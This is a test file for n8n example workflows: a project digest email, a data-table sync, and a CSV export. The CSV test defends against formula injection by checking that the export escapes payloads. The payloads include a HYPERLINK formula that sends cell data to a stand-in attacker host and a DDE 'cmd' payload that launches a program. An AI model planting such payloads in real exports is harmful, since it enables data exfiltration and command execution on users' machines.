/** Every workflow of examples/ as a person has it after choosing the Collab credential, with what it would send out caught. */
import { setTimeout as sleep } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import { SPREADSHEET } from '../../../dev/demo/examples';
import { chain, node, START } from '../../../dev/host/template';
import { itemsOf } from '../../../dev/host/workflows';
import type { ProjectRecord } from '../../../dev/sandbox';
import { example, standIn } from '../examples';
import { by, type Row, rowsOf } from '../stage';
import { stage, store } from './stage';
import { dateIn, STORIES } from './stories';

/** The service holds these projects and no other. */
function hold(projects: readonly Partial<ProjectRecord>[]): void {
	for (const { id } of store().all()) store().remove(id);
	for (const fields of projects) store().create(fields);
}

const nameOf = (found: unknown) =>
	typeof found === 'object' && found !== null && 'name' in found ? found.name : found;
const sorted = (all: unknown[]) =>
	[...all].sort((a, b) => (String(nameOf(a)) < String(nameOf(b)) ? -1 : 1));

it.each(STORIES)('$file', async ({ file, node: last, projects, read, steps }) => {
	hold(projects);
	const workflow = await stage.publish(await example(file, { [last]: standIn }));
	for (const [act, ...expected] of steps) {
		// What is created in the second in which the trigger began counts as existing.
		await sleep(1_000);
		act();
		const found: unknown[] = [];
		// What happens at once may be found by two polls.
		while (found.length < expected.length) {
			found.push(...read(rowsOf(await stage.next(workflow), last)));
		}
		expect(sorted(found)).toMatchObject(expected);
	}
	await stage.unpublish(workflow);
});

describe('email-weekly-project-digest.json', () => {
	const digest = async (projects: readonly Partial<ProjectRecord>[]) => {
		hold(projects);
		const last = 'Send the Digest';
		const draft = await example('email-weekly-project-digest.json', { [last]: standIn });
		const [row] = rowsOf(await stage.run(draft, 'Every Monday'), last);
		return row?.['sent'] as { subject: string; text: string };
	};

	it('says how many, how far, and what lies idle', async () => {
		const { subject, text } = await digest([
			{ name: 'Idle', updated_at: dateIn(-40), task_count: 4, completed_task_count: 1 },
			{ name: 'Late', end_date: dateIn(-3), task_count: 10, completed_task_count: 5 },
			{ name: 'Done', task_count: 2, completed_task_count: 2 },
			{ name: 'Old', status: 'archived', updated_at: dateIn(-90) },
		]);
		expect(subject).toBe('Projects this week: 4 in all, 1 overdue');
		const [date, ...lines] = text.split('\n');
		expect(date).toMatch(new RegExp(`^Projects on \\d+ [A-Z]\\w+ ${new Date().getUTCFullYear()}$`));
		expect(lines.filter((line) => line !== '')).toEqual([
			'active: 3',
			'archived: 1',
			'Overdue: 1',
			'Completed: 1',
			'Average progress: 58.3 %',
			'Without a change for longest:',
			'- Idle (40 days)',
			'- Late (0 days)',
		]);
	});

	it('says that there are none', async () => {
		const { text } = await digest([]);
		expect(text).toMatch(/There are no projects yet\.[^]*not known[^]*longest:\n- none$/);
	});
});

describe('sync-projects-to-data-table.json', () => {
	/** As another workflow of the same person would read it. */
	async function rowsOfTable(): Promise<Row[]> {
		const dataTableId = { __rl: true, mode: 'name', value: 'collab_projects' };
		const all = { resource: 'row', operation: 'get', dataTableId, returnAll: true };
		const rows = node('Rows', 'n8n-nodes-base.dataTable', all, { typeVersion: 1.1 });
		const execution = await stage.run(chain('Read the table', [START, rows]));
		return by('name', rowsOf(execution, 'Rows'));
	}

	it('makes and fills the table, then keeps it', async () => {
		hold([{ name: 'A' }, { name: 'B', updated_at: '2026-01-01T00:00:00Z' }, { name: 'C' }]);
		const workflow = await stage.publish(await example('sync-projects-to-data-table.json'));
		await stage.next(workflow);
		expect(await rowsOfTable()).toMatchObject([{ name: 'A' }, { name: 'B' }, { name: 'C' }]);
		const [a, b] = by('name', store().all());
		store().archive(a?.id ?? '');
		await stage.next(workflow);
		store().create({ name: 'D' });
		await stage.next(workflow);
		store().remove(b?.id ?? '');
		await stage.next(workflow);
		await stage.unpublish(workflow);
		const [first, ...others] = await rowsOfTable();
		const { id, status, last_event } = { id: a?.id, status: 'archived', last_event: 'archived' };
		expect(first).toMatchObject({ project_id: id, name: 'A', status, last_event });
		const stamp = store().get(id ?? '')?.updated_at ?? '';
		expect(Date.parse(String(first?.['project_updated_at']))).toBe(Date.parse(stamp));
		expect(others).toMatchObject([{ name: 'C' }, { name: 'D' }]);
	});
});

describe(SPREADSHEET, () => {
	/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"). */
	const FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'];
	const HIDDEN = ["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1'];
	const HARMLESS = ['Website', 'a=b', '3-2', "It's fine", ' =1+1', ''];

	it('puts an apostrophe before what would be a formula', async () => {
		const formulas = [...FORMULAS, ...HIDDEN];
		hold([...formulas, ...HARMLESS].map((name) => ({ name, description: name, task_count: 3 })));
		const execution = await stage.run(await example(SPREADSHEET), 'Run by Hand');
		const [item] = itemsOf(execution, 'Make a CSV File');
		const csv = await textOf(item?.binary?.['data']);
		const rows = parse<Record<string, string>>(csv, { columns: true, bom: true });
		const expected = [...formulas.map((formula) => `'${formula}`), ...HARMLESS].sort();
		expect(rows.map(({ name }) => name).sort()).toEqual(expected);
		expect(rows.map(({ description }) => description).sort()).toEqual(expected);
		expect(new Set(rows.map((row) => row['task_count']))).toEqual(new Set(['3']));
	});

	/** n8n keeps what a file holds in the execution, in base64, or beside it. */
	async function textOf(binary: unknown): Promise<string> {
		const { data = '', id } = binary as { data?: string; id?: string };
		if (id === undefined) return Buffer.from(data, 'base64').toString('utf8');
		const query = new URLSearchParams({ id, action: 'download' }).toString();
		return await (await stage.session.page(`/rest/binary-data?${query}`)).text();
	}
});
